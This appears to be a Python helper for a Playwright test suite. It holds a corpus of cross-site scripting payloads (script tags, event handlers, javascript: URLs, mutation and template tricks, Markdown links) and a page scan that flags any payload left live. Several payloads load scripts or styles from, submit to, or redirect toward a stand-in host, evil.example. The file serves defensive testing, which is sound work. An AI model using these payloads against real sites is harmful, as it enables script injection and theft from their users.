"""Texts that run a script, or fetch from elsewhere, on a page that takes them for markup.

Place in the flow: test_xss.py sends each through every way in. A text that gets to run sets
window.__xss, opens a dialog or asks evil.example for something; the recorder notices all three.
"""

from __future__ import annotations

from typing import Any

from playwright.sync_api import Page

RUN = "window.__xss=1"
AWAY = "http://evil.example/x"

#: Markup, attributes, Markdown, addresses, and texts that only become markup after a repair.
CORPUS = (
    f"<script>{RUN}</script>",
    f"<script src={AWAY}.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={AWAY}.png>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mi//xlink:href=\"javascript:{RUN}\">x",
    f"<iframe src=\"javascript:{RUN}\"></iframe>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    f"<object data=\"javascript:{RUN}\"></object>",
    f"<embed src=\"javascript:{RUN}\">",
    f"<a href=\"javascript:{RUN}\">click</a>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<form action={AWAY}><button autofocus>x</button></form>",
    f"<meta http-equiv=refresh content=\"0;url={AWAY}\">",
    f"<base href=\"{AWAY}/\">",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<style>@import '{AWAY}.css';*{{background:url({AWAY})}}</style>",
    f"<p style=\"background:url({AWAY})\">x</p>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<xmp><p title=\"</xmp><img src=x onerror={RUN}>\">",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<IMG SRC=&#106;avascript:{RUN}>",
    f"\"><img src=x onerror={RUN}>",
    f"'-{RUN}-'",
    f"\" onmouseover=\"{RUN}\" autofocus onfocus=\"{RUN}\" x=\"",
    f"`-{RUN}-`${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"[click](javascript:{RUN})",
    f"![x]({AWAY}.png)",
    f"![x](x \"onerror={RUN}\")",
    f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}\n[x]",
    f"```html\n<img src=x onerror={RUN}>\n```",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"</textarea><img src=x onerror={RUN}>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
)

# What no text may have become, wherever it is shown.
_LIVE = """() => [...document.querySelectorAll('*')].flatMap((element) => {
  const found = [...element.attributes].filter(({ name, value }) => /^on/i.test(name)
    || /^\\s*javascript:/i.test(value) || /evil\\.example/.test(value)
       && ['src', 'href', 'action', 'data', 'style', 'srcdoc', 'content'].includes(name));
  const inert = !['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'MARQUEE', 'FRAME', 'XMP']
    .includes(element.tagName);
  return found.length || !inert ? [element.outerHTML.slice(0, 200)] : [];
})"""


def live_markup(page: Page) -> list[str]:
    """Elements of the page that a text of the corpus has become."""
    found: list[Any] = page.evaluate(_LIVE)
    return [str(one) for one in found]
